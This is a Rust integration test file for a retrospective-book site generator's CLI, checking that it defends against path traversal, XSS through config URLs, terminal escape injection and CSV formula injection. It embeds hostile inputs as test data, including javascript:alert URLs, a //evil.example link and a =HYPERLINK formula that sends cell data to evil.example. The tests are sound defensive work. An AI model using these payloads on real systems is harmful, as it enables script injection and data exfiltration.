//! Web safety of a book, end to end through the CLI: book.toml values cannot point outside the
//! book or into script (language, retros folder, URLs), every page carries a Content-Security-Policy
//! that its own markup obeys, links to other sites carry `rel`, pathological retro bodies build
//! in bounded time, and report/check output cannot smuggle terminal escapes or spreadsheet formulas.

use crate::common;
use common::*;
use std::path::Path;
use std::time::{Duration, Instant};

const RETRO: &str = "+++
id = \"one\"
title = \"One\"
date = 2025-03-01
severity = \"SEV2\"
status = \"published\"
services = [\"api\"]

[[actions]]
id = \"A1\"
title = \"Fix it\"
owner = \"ops\"
status = \"open\"
+++

## Narrative

It broke. See [the vendor's status page](https://status.vendor.example/x \"Vendor\") and [our list](../../retros/).
";

/// A temporary book with `book_toml` and the given retros (file name, text).
fn book(book_toml: &str, retros: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("book.toml"), book_toml).unwrap();
    std::fs::create_dir_all(dir.path().join("retros")).unwrap();
    for (name, text) in retros {
        std::fs::write(dir.path().join("retros").join(name), text).unwrap();
    }
    dir
}

fn build(book: &Path, dest: &Path, extra: &[&str]) -> std::process::Output {
    let mut args =
        vec!["--today", "2026-11-28", "build", "--book", book.to_str().unwrap(), "--dest-dir", dest.to_str().unwrap()];
    args.extend_from_slice(extra);
    run(&args)
}

fn check(book: &Path) -> std::process::Output {
    run(&["--today", "2026-11-28", "check", "--book", book.to_str().unwrap()])
}

/// Every file under `dir` whose name ends with `ext`, with its text.
fn pages(dir: &Path, ext: &str) -> Vec<(String, String)> {
    files_under(dir)
        .into_iter()
        .filter(|p| p.to_string_lossy().ends_with(ext))
        .map(|p| (p.strip_prefix(dir).unwrap().display().to_string(), std::fs::read_to_string(&p).unwrap()))
        .collect()
}

#[test]
fn a_language_that_is_no_language_tag_is_refused_and_writes_nothing() {
    let outer = tempfile::tempdir().unwrap();
    let root = outer.path().join("a/b/c");
    std::fs::create_dir_all(root.join("retros")).unwrap();
    std::fs::write(root.join("retros/one.md"), RETRO).unwrap();
    for lang in ["x/../../../ESCAPED", &format!("en-{}", "abcdefgh-".repeat(7).trim_end_matches('-'))] {
        std::fs::write(root.join("book.toml"), format!("[book]\ntitle = \"T\"\nlanguage = {lang:?}\n")).unwrap();
        let out = check(&root);
        assert_eq!(out.status.code(), Some(1), "{}{}", stdout(&out), stderr(&out));
        let text = stdout(&out) + &stderr(&out);
        assert!(text.contains("book.toml:3:12"), "{text}");
        assert!(text.contains("BCP 47 language tag"), "{text}");
        let site = outer.path().join("site");
        let out = build(&root, &site, &[]);
        assert_ne!(out.status.code(), Some(0), "{}", stderr(&out));
        assert!(!stderr(&out).contains("panicked"), "{}", stderr(&out));
        let escaped: Vec<_> =
            files_under(outer.path()).into_iter().filter(|p| p.to_string_lossy().contains("ESCAPED")).collect();
        assert!(escaped.is_empty(), "{escaped:?}");
    }
    // A real tag builds, and reaches the pages.
    std::fs::write(root.join("book.toml"), "[book]\ntitle = \"T\"\nlanguage = \"pt-BR\"\n").unwrap();
    let site = outer.path().join("site");
    let out = build(&root, &site, &[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(std::fs::read_to_string(site.join("index.html")).unwrap().contains("<html lang=\"pt-BR\""));
}

#[test]
fn the_retros_folder_cannot_leave_the_book() {
    // A folder outside the book, holding a secret without extension.
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("id_rsa"), "-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n").unwrap();
    std::fs::write(outside.path().join("other.md"), RETRO).unwrap();
    let abs = outside.path().to_str().unwrap().to_string();
    let b = book("", &[("one.md", RETRO)]);
    let rel = pathdiff(outside.path(), b.path());
    for dir in [abs.as_str(), rel.as_str()] {
        std::fs::write(b.path().join("book.toml"), format!("[book]\ntitle = \"T\"\n\n[retros]\ndir = {dir:?}\n"))
            .unwrap();
        let out = check(b.path());
        let text = stdout(&out) + &stderr(&out);
        assert_eq!(out.status.code(), Some(1), "{text}");
        assert!(text.contains("book.toml:5:7") && text.contains("inside the book"), "{text}");
        let site = tempfile::tempdir().unwrap();
        let out = build(b.path(), &site.path().join("site"), &[]);
        assert_ne!(out.status.code(), Some(0));
        let leaked: Vec<_> = files_under(site.path())
            .into_iter()
            .filter(|p| std::fs::read_to_string(p).is_ok_and(|t| t.contains("secret")))
            .collect();
        assert!(leaked.is_empty(), "{leaked:?}");
    }
    // Through a symbolic link.
    #[cfg(unix)]
    {
        std::fs::remove_dir_all(b.path().join("retros")).unwrap();
        std::os::unix::fs::symlink(outside.path(), b.path().join("retros")).unwrap();
        std::fs::write(b.path().join("book.toml"), "[retros]\ndir = \"retros\"\n").unwrap();
        let out = check(b.path());
        let text = stdout(&out) + &stderr(&out);
        assert_eq!(out.status.code(), Some(1), "{text}");
        assert!(text.contains("outside the book"), "{text}");
        let site = tempfile::tempdir().unwrap();
        assert_ne!(build(b.path(), &site.path().join("site"), &[]).status.code(), Some(0));
        assert!(!site.path().join("site/retros/id_rsa").exists());
    }
}

/// `to` relative to `from`, with `..` (both absolute, no links).
fn pathdiff(to: &Path, from: &Path) -> String {
    let up = from.components().count();
    format!("{}{}", "../".repeat(up - 1), to.strip_prefix("/").unwrap().display())
}

#[test]
fn book_urls_must_be_http_or_a_path() {
    let cases = [
        ("[output.html]\nedit-url-template = \"javascript:alert(document.domain)//{path}\"\n", 2),
        ("[output.html]\ngit-repository-url = \"javascript:alert(1)\"\n", 2),
        ("[output.html]\nsite-url = \"javascript:alert(1)//\"\n", 2),
        ("[output.html]\nsite-url = \"//evil.example/\"\n", 2),
        ("[output.external]\nsite-url = \"data:text/html,x\"\n", 2),
    ];
    for (toml, line) in cases {
        let b = book(toml, &[("one.md", RETRO)]);
        let out = check(b.path());
        let text = stdout(&out) + &stderr(&out);
        assert_eq!(out.status.code(), Some(1), "{toml}: {text}");
        assert!(text.contains(&format!("book.toml:{line}:")) && text.contains("http"), "{toml}: {text}");
        let site = tempfile::tempdir().unwrap();
        let out = build(b.path(), site.path(), &[]);
        assert_ne!(out.status.code(), Some(0), "{toml}");
        for (name, html) in pages(site.path(), "") {
            assert!(!html.to_ascii_lowercase().contains("javascript:"), "{name}");
        }
    }
    let ok = "[output.html]\nsite-url = \"/team/retros/\"\ngit-repository-url = \"https://git.example/acme/retros\"\n\
              edit-url-template = \"https://git.example/acme/retros/edit/main/{path}\"\n";
    let b = book(ok, &[("one.md", RETRO)]);
    let site = tempfile::tempdir().unwrap();
    let out = build(b.path(), site.path(), &[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let page = std::fs::read_to_string(site.path().join("retros/one/index.html")).unwrap();
    assert!(page.contains("href=\"https://git.example/acme/retros/edit/main/retros/one.md\""), "{page}");
}

const CSP: &str = "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; script-src 'self' \
                   'wasm-unsafe-eval'; style-src 'self'; img-src 'self' https:;";

/// Every page has the policy, and nothing in it that the policy would block: no inline script,
/// no style attribute or element, no script from elsewhere (event handlers: site.rs).
fn assert_pages_obey_csp(site: &Path) {
    let html = pages(site, ".html");
    assert!(html.len() > 3, "{}", html.len());
    for (name, page) in html {
        // The 404 page carries one inline script, allowed by its SHA-256 and by nothing else.
        let page = if name.ends_with("404.html") { without_hashed_script(&name, &page) } else { page };
        assert!(page.contains(CSP), "{name} has no CSP meta");
        let lower = page.to_ascii_lowercase();
        for (i, _) in lower.match_indices("<script") {
            let tag = &lower[i..i + lower[i..].find('>').unwrap()];
            assert!(tag.contains(" src=\""), "{name}: inline script {tag}");
            let src = tag.split(" src=\"").nth(1).unwrap();
            assert!(!src.starts_with("http") && !src.starts_with("//"), "{name}: {tag}");
        }
        assert!(!lower.contains("<style"), "{name}: a <style> element");
        assert!(!lower.contains(" style=\""), "{name}: a style attribute");
    }
}

/// The 404 page without its inline script and that script's hash in the policy, after checking
/// that the hash is the script's.
fn without_hashed_script(name: &str, page: &str) -> String {
    use base64::Engine;
    use sha2::Digest;
    let start = page.find("<script>").unwrap_or_else(|| panic!("{name}: no inline script")) + "<script>".len();
    let len = page[start..].find("</script>").unwrap();
    let body = &page[start..start + len];
    let hash = base64::engine::general_purpose::STANDARD.encode(sha2::Sha256::digest(body.as_bytes()));
    let token = format!(" 'sha256-{hash}'");
    assert_eq!(page.matches(&token).count(), 1, "{name}: the policy does not allow exactly its script");
    let page = page.replacen(&token, "", 1);
    page.replacen(&format!("<script>{body}</script>"), "", 1)
}

#[test]
fn every_page_carries_a_csp_that_its_markup_obeys() {
    for fixture_book in [repo(), fixture("xss")] {
        let site = tempfile::tempdir().unwrap();
        let out = build(&fixture_book, site.path(), &[]);
        assert_eq!(out.status.code(), Some(0), "{}: {}", fixture_book.display(), stderr(&out));
        assert_pages_obey_csp(site.path());
        assert!(site.path().join("js/theme-init.js").is_file());
    }
    // With `allow-raw-html`, a retro's own inline script stays in the page, and the policy there
    // is what stops it.
    let site = tempfile::tempdir().unwrap();
    assert_eq!(build(&fixture("external"), site.path(), &[]).status.code(), Some(0));
    let page = std::fs::read_to_string(site.path().join("retros/2025-03-01-checkout-unavailable/index.html")).unwrap();
    assert!(page.contains("<script>zzscriptqq7()</script>") && page.contains(CSP));
    for fixture_book in [repo(), fixture("external")] {
        let site = tempfile::tempdir().unwrap();
        let out = build(&fixture_book, site.path(), &["--audience", "external"]);
        assert_eq!(out.status.code(), Some(0), "{}: {}", fixture_book.display(), stderr(&out));
        assert_pages_obey_csp(site.path());
    }
}

#[test]
fn links_to_other_sites_carry_noopener_noreferrer() {
    let b = book("", &[("one.md", RETRO)]);
    let site = tempfile::tempdir().unwrap();
    assert_eq!(build(b.path(), site.path(), &[]).status.code(), Some(0));
    let page = std::fs::read_to_string(site.path().join("retros/one/index.html")).unwrap();
    assert!(
        page.contains(
            "<a href=\"https://status.vendor.example/x\" rel=\"noopener noreferrer\" title=\"Vendor\">the vendor's status page</a>"
        ),
        "{page}"
    );
    assert!(page.contains("<a href=\"../../retros/\">our list</a>"), "{page}");
}

/// Builds a book with one retro whose narrative is `body`; returns how long the build took.
fn timed_build(body: &str) -> Duration {
    let retro = RETRO.replace("It broke.", body);
    let b = book("", &[("one.md", &retro)]);
    let site = tempfile::tempdir().unwrap();
    let t = Instant::now();
    let out = build(b.path(), site.path(), &["--no-search"]);
    let took = t.elapsed();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(site.path().join("retros/one/index.html").is_file());
    took
}

#[test]
fn deeply_nested_raw_html_builds_in_bounded_time() {
    // 100,000 nested <div> (1.2 MB): 30 s and more before, as the sanitiser's parser is quadratic.
    let body = format!("{}deep{}", "<div>".repeat(100_000), "</div>".repeat(100_000));
    let took = timed_build(&body);
    assert!(took < Duration::from_secs(20), "took {took:?}");
}

#[test]
fn a_code_block_of_long_lines_builds_in_bounded_time() {
    // 2,000 lines of 2,000 characters of Rust (4 MB): minutes before, highlighting every line.
    let line = format!("let x = [{}];\n", "\"a\", 1, ".repeat(2000 / 8));
    let body = format!("```rust\n{}```\n", line.repeat(2_000));
    let took = timed_build(&body);
    assert!(took < Duration::from_secs(30), "took {took:?}");
}

const HOSTILE: &str = "+++
id = \"two\"
title = \"Two \\u001b]0;pwned\\u0007\\u001b[2J\"
date = 2025-04-01
severity = \"SEV9\\u001b[2J\"
status = \"published\"

[[actions]]
id = \"A1\"
title = \"=HYPERLINK(\\\"https://evil.example/?\\\"&A1,\\\"click\\\")\"
owner = \"@ops\\u001b[31m\"
status = \"open\"
+++

## Narrative

Text.
";

#[test]
fn terminal_escapes_in_retros_are_shown_not_run() {
    let b = book("", &[("two.md", HOSTILE)]);
    let out = check(b.path());
    let text = stdout(&out) + &stderr(&out);
    assert!(text.contains("SEV9\\u{1b}[2J"), "{text}");
    assert!(!text.contains('\u{1b}') && !text.contains('\u{7}'), "{text:?}");
    for format in ["table", "markdown"] {
        let out = run(&[
            "--today",
            "2026-11-28",
            "report",
            "actions",
            "--format",
            format,
            "--book",
            b.path().to_str().unwrap(),
        ]);
        let text = stdout(&out) + &stderr(&out);
        assert!(!text.contains('\u{1b}') && !text.contains('\u{7}'), "{format}: {text:?}");
        assert!(text.contains("\\u{1b}"), "{format}: {text}");
    }
}

#[test]
fn csv_reports_hold_no_formulas() {
    let b = book("", &[("two.md", &HOSTILE.replace("SEV9\\u001b[2J", "SEV2"))]);
    let out =
        run(&["--today", "2026-11-28", "report", "actions", "--format", "csv", "--book", b.path().to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let csv = stdout(&out);
    assert!(csv.contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"click\"\")\""), "{csv}");
    assert!(csv.contains("\n'@ops"), "{csv}");
    for line in csv.lines() {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(!cell.starts_with(['=', '+', '@']), "{cell} in {line}");
        }
    }
}
